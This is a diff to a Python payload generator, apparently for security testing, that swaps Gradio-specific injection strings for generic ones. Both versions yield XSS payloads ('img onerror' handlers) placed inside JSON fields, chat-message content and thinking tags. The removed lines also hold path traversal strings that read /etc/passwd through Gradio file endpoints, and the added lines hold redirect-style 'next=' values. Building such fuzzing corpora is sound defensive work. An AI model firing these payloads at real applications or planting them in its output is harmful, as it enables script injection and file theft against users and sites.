@@ -376,21 +376,21 @@ def _mathematics() -> Iterator[str]:
         yield f"\\({one}\\)"
 
 
-def _gradio() -> Iterator[str]:
+def _messages() -> Iterator[str]:
     image = f"<img src=x onerror={_RUN}>"
-    yield '{"path": "/etc/passwd", "meta": {"_type": "gradio.FileData"}, "orig_name": "@N@"}'
-    yield '{"url": "@C@/@N@", "meta": {"_type": "gradio.FileData"}}'
-    yield '{"component": "html", "value": "' + image + '", "props": {}}'
+    yield '{"name": "' + image + '", "about": "@N@"}'
+    yield '{"link": "@C@/@N@"}'
+    yield '{"value": "' + image + '", "more": {}}'
     yield '{"role": "assistant", "content": "' + image + '"}'
     yield '[{"type": "text", "text": "' + image + '"}]'
-    yield '{"__type__": "update", "value": "' + image + '"}'
-    yield '{"metadata": {"title": "' + image + '"}}'
-    yield "/gradio_api/file=@C@/@N@"
-    yield "![x](/gradio_api/file=@C@/@N@)"
-    yield "<img src='/gradio_api/file=@C@/@N@'>"
-    yield "file=/etc/passwd@N@"
-    yield f"<gradio-app src='{_LOAD}'></gradio-app>"
-    yield f"<video src='/gradio_api/proxy={_LOAD}'>"
+    yield '{"title": "' + image + '"}'
+    yield '["' + image + '", "' + image + '"]'
+    yield "/articles/@N@?next=@C@/@N@"
+    yield "![x](/articles/@N@?next=@C@/@N@)"
+    yield "<img src='/articles/@N@?next=@C@/@N@'>"
+    yield "next=@C@/@N@"
+    yield f"<unknown-element src='{_LOAD}'></unknown-element>"
+    yield f"<video src='/articles/@N@?next={_LOAD}'>"
     yield f"<thinking>{image}</thinking>"
     yield f"<details><summary>{image}</summary></details>"
 
@@ -437,7 +437,7 @@ KINDS = {
     "breaking out": _breaking_out,
     "template": _templates,
     "mathematics": _mathematics,
-    "gradio": _gradio,
+    "message": _messages,
     "character": _characters,
     "polyglot": _polyglots,
 }
